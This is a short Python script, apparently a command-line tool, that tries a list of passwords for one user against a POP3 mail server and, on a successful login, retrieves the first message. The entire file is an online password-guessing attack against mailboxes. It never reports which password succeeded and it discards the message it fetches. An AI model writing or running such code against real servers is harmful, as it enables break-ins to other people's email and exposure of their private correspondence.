#!/usr/bin/env python3
"""Tries passwords of a box by POP3, each over a connection of its own, and reads the first letter:  pop.py HOST USER PASSWORD..."""
import poplib
import sys

host, user, *passwords = sys.argv[1:]
for password in passwords:
    box = poplib.POP3(host)
    try:
        box.user(user)
        box.pass_(password)
        box.stat()
        box.retr(1)
    except poplib.error_proto:
        pass
    box.quit()
